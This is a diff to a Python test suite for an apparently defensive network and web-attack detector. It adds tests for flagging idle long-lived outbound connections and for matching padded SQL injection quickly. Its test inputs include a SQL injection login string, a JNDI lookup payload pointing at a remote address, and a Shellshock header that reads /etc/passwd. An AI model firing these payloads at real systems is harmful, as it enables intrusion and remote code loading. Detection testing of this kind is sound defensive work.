@@ -97,6 +97,18 @@ def test_tunnels_of_offices_and_messages_that_wait_are_no_long_connection() -> N
     assert reasons(made) == []
 
 
+@pytest.mark.parametrize(("sent", "name", "port", "told"), [
+    (2_000.0, "www.far.example", 443, False), (20_000.0, "www.far.example", 443, True), (2_000.0, "", 443, True),
+    (2_000.0, "www.far.example", 4444, True),
+])  # fmt: skip
+def test_a_web_connection_by_name_that_nobody_speaks_through_was_only_left_open(
+    sent: float, name: str, port: int, told: bool
+) -> None:
+    made = office()
+    made.flow(BAD, OUT, BEGIN + 600, port, duration=9000.0, payload_out=sent, payload_in=2_000.0, name=name)
+    assert [one.kind for one in find_behaviours(made.traffic())] == ["long_connection"] * told
+
+
 def test_a_new_device_a_new_service_and_one_that_gives_out_addresses_are_newcomers() -> None:
     made = office(1)
     for i in range(5):
@@ -173,6 +185,14 @@ def test_what_is_sent_along_and_the_browsers_name_are_read_too() -> None:
     assert attack_of("/login", "user=admin'+or+'1'='1'--+&password=x")[0] == "SQL injection"
     assert attack_of("/", agent="${jndi:ldap://203.0.113.5/a}")[0] == "look-up injection"
     assert attack_of("/cgi", agent="() { :; }; /bin/cat /etc/passwd")[0] == "command injection"
+
+
+def test_a_request_full_of_blanks_takes_no_longer_than_others() -> None:
+    assert attack_of("/?q=1'" + "+" * 1500 + "or" + "%20" * 100 + "'1'='1'")[0] == "SQL injection"
+    begun = time.process_time()
+    for k in range(50):
+        attack_of(f"/{k}?q='" + "+" * 2000)
+    assert time.process_time() - begun < 0.5
 
 
 @pytest.mark.parametrize(
